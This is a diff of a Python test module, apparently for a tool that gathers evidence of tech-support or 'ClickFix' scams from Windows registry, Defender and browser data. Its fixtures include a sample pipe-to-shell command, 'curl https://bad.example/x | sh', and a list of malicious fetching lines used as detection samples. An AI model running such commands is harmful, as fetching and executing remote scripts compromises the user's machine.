@@ -7,7 +7,6 @@ import os
 import re
 import shutil
 import sys
-import tomllib
 from collections.abc import Callable
 from datetime import timedelta
 from pathlib import Path
@@ -22,6 +21,7 @@ from app.evidence.remote_logs import TERMINAL
 from app.evidence.report import run, told
 from app.evidence.traces import Evidence, Looked
 from app.texts import Library
+from tests.companion.test_dangers import COPIED
 from tests.evidence.conftest import NOW, event, put, since_1601
 from tests.evidence.test_remote_logs import SAMPLES
 
@@ -29,8 +29,7 @@ OLD = NOW - timedelta(days=30)
 USER, PC = "HKEY_CURRENT_USER", "HKEY_LOCAL_MACHINE"
 VERSION, DEFENDER = r"Software\Microsoft\Windows\CurrentVersion", rf"{PC}\SOFTWARE\Microsoft\Windows Defender"
 CURL, DPKG = "curl https://bad.example/x | sh", "%Y-%m-%d %H:%M:%S install came"
-CLICKFIX = tomllib.loads((Path(__file__).parents[1] / "companion" / "clickfix.toml").read_text(encoding="utf-8"))
-FETCHING = [line for line in CLICKFIX["malicious"] if "//" in line]
+FETCHING = [line for line in COPIED["malicious"] if "//" in line]
 NAMES = ("AnyDesk", "ウイルス駆除 2026", "Support-Tool (x64) 1.0", "Ｏｆｆｉｃｅ", "PC Cleaner & Booster", "é-Lève")
 BROWSERS = ("Google/Chrome", "Microsoft/Edge", "BraveSoftware/Brave-Browser")
 RULE = {"setting": 1, "last_modified": str(since_1601(NOW))}
